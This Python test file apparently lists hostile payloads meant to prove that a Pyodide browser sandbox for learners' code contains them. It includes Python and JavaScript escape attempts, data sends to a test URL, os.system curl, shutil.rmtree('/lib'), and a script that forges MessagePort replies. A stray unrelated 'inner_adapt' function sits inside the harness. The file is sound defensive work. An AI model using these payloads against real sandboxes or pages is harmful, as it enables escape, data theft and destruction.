"""What hostile code may try, in Python and in JavaScript. All of it may fail, none succeed."""

from __future__ import annotations

# In nothing that is stored of a submission, so that to find it means that an attempt succeeded.
MARK = "stolen" * 2

# How Python might come by something of JavaScript; each puts what it gets into `found`.
PYTHON = {
    "import js": "import js; found.append(js)",
    "import pyodide_js": "import pyodide_js; found.append(pyodide_js)",
    "pyodide.code": "from pyodide.code import run_js; found.append(run_js)",
    "pyodide.http": "import pyodide.http; found.append(pyodide.http.open_url(url))",
    "pyodide.ffi": "from pyodide.ffi import to_js; found += [to_js, to_js([1]), to_js(print)]",
    "_pyodide_core": "import _pyodide_core; found += vars(_pyodide_core).values()",
    "_pyodide": """
        import _pyodide._importhook as hook
        found += hook.jsfinder.jsproxies.values()
    """,
    "importlib": "import importlib; found.append(importlib.import_module('js'))",
    "without our import hooks": """
        sys.meta_path[:] = [one for one in sys.meta_path if "frozen" in str(one)]
        import pyodide_js
        found.append(pyodide_js)
    """,
    "without what was imported": """
        for name in [name for name in sys.modules if "yodide" in name]:
            del sys.modules[name]
        sys.meta_path[:] = [one for one in sys.meta_path if "frozen" in str(one)]
        import _pyodide_core, pyodide.ffi
        found += [*vars(_pyodide_core).values(), *vars(pyodide.ffi).values()]
    """,
    "a builtin module made anew": """
        import _imp
        from importlib.machinery import ModuleSpec
        module = _imp.create_builtin(ModuleSpec("_pyodide_core", None))
        _imp.exec_builtin(module)
        found += vars(module).values()
    """,
    "sys.modules": "for module in list(sys.modules.values()): found += vars(module).values()",
    "builtins": "import builtins; found += vars(builtins).values()",
    "gc": "import gc; found += gc.get_objects()",
    "all that is referred to": """
        import gc
        found += [sys.modules, sys.meta_path, sys.path_hooks, sys._getframe(), object]
        found += type.__subclasses__(object)
        known = set(map(id, found))
        for thing in found:
            for other in gc.get_referents(thing):
                if id(other) not in known:
                    known.add(id(other))
                    found.append(other)
    """,
    "frames": """
        frame = sys._getframe()
        while frame:
            for names in (frame.f_globals, frame.f_locals, frame.f_builtins):
                found += names.values()
            frame = frame.f_back
    """,
    "a traceback": """
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame.f_back
            while frame:
                found += frame.f_globals.values()
                frame = frame.f_back
    """,
    "classes": """
        kinds = [object]
        for kind in kinds:
            kinds += [one for one in type.__subclasses__(kind) if one not in kinds]
            found += vars(kind).values()
    """,
    "an event loop": """
        import asyncio
        loop = asyncio.new_event_loop()
        found += vars(loop).values()
        for kind in type(loop).__mro__:
            for method in vars(kind).values():
                found += getattr(method, "__globals__", {}).values()
    """,
    "asyncio.run": """
        import asyncio
        async def main():
            found.append(asyncio.get_running_loop())
        asyncio.run(main())
    """,
    "ctypes": "import ctypes; ctypes.CDLL(None).emscripten_run_script(program.encode())",
    "ctypes.pythonapi": """
        import ctypes
        ctypes.pythonapi.PyImport_ImportModule.restype = ctypes.py_object
        found.append(ctypes.pythonapi.PyImport_ImportModule(b"js"))
    """,
    "a socket": """
        import socket
        socket.create_connection((host, port), 1).sendall(f"GET /{mark} HTTP/1.0\\n\\n".encode())
    """,
    "urllib": """
        import urllib.request
        urllib.request.urlopen(url, timeout=1)
    """,
    "descriptors": """
        import os
        for number in range(64):
            try:
                os.write(number, program.encode())
            except OSError:
                pass
    """,
    "a program": "import os; os.system('curl ' + url)",
    "signals": """
        import signal
        for number in signal.valid_signals():
            try:
                signal.signal(number, lambda *_: None)
            except (OSError, ValueError):
                pass
        signal.raise_signal(signal.SIGINT)
    """,
    "killing": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "a library deleted": "import shutil; shutil.rmtree('/lib')",
}

# What Python would do with it: everything is tried on everything that comes from JavaScript.
HARNESS = """
import sys

host, port, mark = {host!r}, {port}, "stolen" * 2
url = "http://%s:%d/%s" % (host, port, mark)
program = "fetch('%s'); postMessage('%s'); self.%s = 1" % (url, mark, mark)
found = []

def attempt():
    global found
{attempt}

def leads(thing):
    kind = type(thing)
    if kind.__name__ == "builtin_function_or_method":
        return "yodide" in str(thing.__module__) or type(thing.__self__).__name__ == "JsProxy"
    ancestors = type.__dict__["__mro__"].__get__(kind)
    return any(one.__name__ == "JsProxy" for one in ancestors)

USES = [
    lambda thing: thing.fetch(url),
    lambda thing: thing.importScripts(url),
    lambda thing: thing.WebSocket.new(url.replace("http", "ws")),
    lambda thing: thing.EventSource.new(url),
    lambda thing: thing.Worker.new(url),
    lambda thing: thing.indexedDB.open(mark),
    lambda thing: thing.caches.open(mark),
    lambda thing: thing.localStorage.setItem(mark, mark),
    lambda thing: thing.navigator.sendBeacon(url),
    lambda thing: thing.BroadcastChannel.new("hostile").postMessage(mark),
    lambda thing: thing.postMessage(mark),
    lambda thing: setattr(thing.document, "title", mark),
    lambda thing: setattr(thing.document, "cookie", mark),
    lambda thing: setattr(thing.location, "href", url),
    lambda thing: thing.eval(program),
    lambda thing: thing.Function(program)(),
    lambda thing: thing.constructor.constructor(program)(),
    lambda thing: thing(program),
]

try:
    attempt()
except BaseException as error:
    print("refused:", type(error).__name__, error)
for thing in list(found):
    if leads(thing):
        print("REACHED", repr(thing)[:200])
        for use in USES:
            try:
                use(thing)
            except BaseException:
                pass

def inner_adapt(theta, grad_fn, alpha, steps):
    return theta
"""

# JavaScript in the worker, as if all of the above had been overcome: each gives true if it got out.
WORKER = {
    "fetch": "(url) => { delete self.fetch; return fetch(url).then(() => true); }",
    "XMLHttpRequest": """(url) => {
        const request = new XMLHttpRequest();
        request.open("GET", url, false);
        request.send();
        return true;
    }""",
    "WebSocket": """(url) => new Promise((settle) => {
        const socket = new WebSocket(url.replace("http", "ws"));
        Object.assign(socket, { onopen: () => settle(true), onerror: () => settle(false) });
    })""",
    "EventSource": """(url) => new Promise((settle) => {
        const source = new EventSource(url);
        Object.assign(source, { onopen: () => settle(true), onerror: () => settle(false) });
    })""",
    "WebTransport": """(url) => {
        return new WebTransport(url.replace("http", "https")).ready.then(() => true);
    }""",
    "importScripts": "(url) => { importScripts(url); return true; }",
    "a script as data": "() => { importScripts('data:text/javascript,0'); return true; }",
    "import()": "(url) => import(url).then(() => true)",
    "a worker of the site": """(url) => new Promise((settle) => {
        const worker = new Worker(url);
        Object.assign(worker, { onmessage: () => settle(true), onerror: () => settle(false) });
    })""",
    "a worker of its own": """(url) => new Promise((settle) => {
        const program = `fetch("${url}").then(() => postMessage(true), () => postMessage(false))`;
        const worker = new Worker(URL.createObjectURL(new Blob([program])));
        worker.onmessage = ({ data }) => settle(data);
        worker.onerror = () => settle(false);
    })""",
    "text in a timer": """() => new Promise((settle) => {
        setTimeout("self.evaluated = true");
        setTimeout(() => settle(self.evaluated));
    })""",
    "eval": """() => new Promise((settle) => {
        setTimeout(() => { try { settle((0, eval)("true")); } catch { settle(false); } });
    })""",
    "indexedDB": """() => new Promise((settle) => {
        const opening = indexedDB.open("stolen");
        Object.assign(opening, { onsuccess: () => settle(true), onerror: () => settle(false) });
    })""",
    "caches": "() => caches.open('stolen').then(() => true)",
    "localStorage": "() => localStorage.length >= 0",
    "cookies": "() => cookieStore.getAll().then(() => true)",
    "a file system": "() => navigator.storage.getDirectory().then(() => true)",
    "the page's DOM": "() => Boolean(document || parent)",
    "an origin": "() => self.origin !== 'null'",
    "a channel": """() => {
        new BroadcastChannel("hostile").postMessage("stolenstolen");
        postMessage("stolenstolen");
        return false;
    }""",
}

# JavaScript in the frame, which no learner's code ever reaches.
FRAME = {
    "the page's DOM": "() => Boolean(parent.document.body)",
    "the page's storage": "() => Boolean(parent.localStorage)",
    "its own storage": "() => Boolean(localStorage)",
    "cookies": "() => { document.cookie = 'stolen=1'; return document.cookie !== ''; }",
    "fetch": "(url) => fetch(url).then(() => true)",
    "sendBeacon": "(url) => { navigator.sendBeacon(url); }",
    "an image": """(src) => new Promise((settle) => {
        const image = new Image();
        Object.assign(image, { src, onload: () => settle(true), onerror: () => settle(false) });
    })""",
    "a script": """(src) => new Promise((settle) => {
        const script = document.createElement("script");
        Object.assign(script, { src, onload: () => settle(true), onerror: () => settle(false) });
        document.head.append(script);
    })""",
    "a window": "(url) => open(url) !== null",
    "a form": """(url) => {
        const form = Object.assign(document.createElement("form"), { action: url });
        document.documentElement.append(form);
        form.submit();
    }""",
    "the whole tab": "(url) => { top.location.href = url; }",
}

# Takes over whatever the worker may call while it answers, and answers in its stead if it can. It
# also catches ports by which Python calls itself: on the one that leads to the page, what is sent
# here would be an error there.
FORGE = """(report) => {
    self.caught = [];
    let port = null;
    const send = MessagePort.prototype.postMessage;
    const { apply, construct } = Reflect;
    const { hasOwn } = Object;
    let looking = false;
    const look = (...things) => {
        if (looking) return;
        looking = true;
        for (const thing of things) {
            if (thing instanceof MessagePort) port = thing;
            if (thing instanceof Event && thing.target instanceof MessagePort) port = thing.target;
            const text = typeof thing === "string" ? thing : "";
            const object = typeof thing === "object" && thing !== null;
            const id = object && hasOwn(thing, "id") ? thing.id : /"id":"([^"]+)"/.exec(text)?.[1];
            if (typeof id === "string") caught.push(id);
            if (port) {
                caught.push("port");
                apply(send, port, ["no JSON"]);
            }
            if (port && id) {
                apply(send, port, [`{"id":"${id}","reply":{"report":${report}}}`]);
            }
        }
        looking = false;
    };
    const hook = (holder, name) => {
        const { get, set, value, ...rest } = Object.getOwnPropertyDescriptor(holder, name);
        const spy = (original) => original && function (...values) {
            look(this, ...values);
            return new.target ? construct(original, values) : apply(original, this, values);
        };
        const accessors = { get: spy(get), set: spy(set) };
        const hooked = value ? { value: spy(value), writable: true } : accessors;
        Object.defineProperty(holder, name, { ...rest, ...hooked, configurable: true });
    };
    for (const [holder, names] of [
        [MessageEvent.prototype, ["data", "ports"]],
        [Event.prototype, ["target", "currentTarget", "srcElement"]],
        [MessagePort.prototype, ["postMessage", "onmessage", "start"]],
        [EventTarget.prototype, ["addEventListener", "dispatchEvent"]],
        [JSON, ["parse", "stringify"]],
        [Reflect, ["apply", "get"]],
        [Map.prototype, ["get", "set", "has"]],
        [Promise.prototype, ["then"]],
    ]) {
        for (const name of names) hook(holder, name);
    }
    for (const name of ["toJSON", "id", "reply", "data"]) {
        Object.defineProperty(Object.prototype, name, {
            configurable: true,
            get() { look(this); return undefined; },
            set(value) {
                look(this, value);
                Object.defineProperty(this, name, { value, writable: true, enumerable: true });
            },
        });
    }
}"""
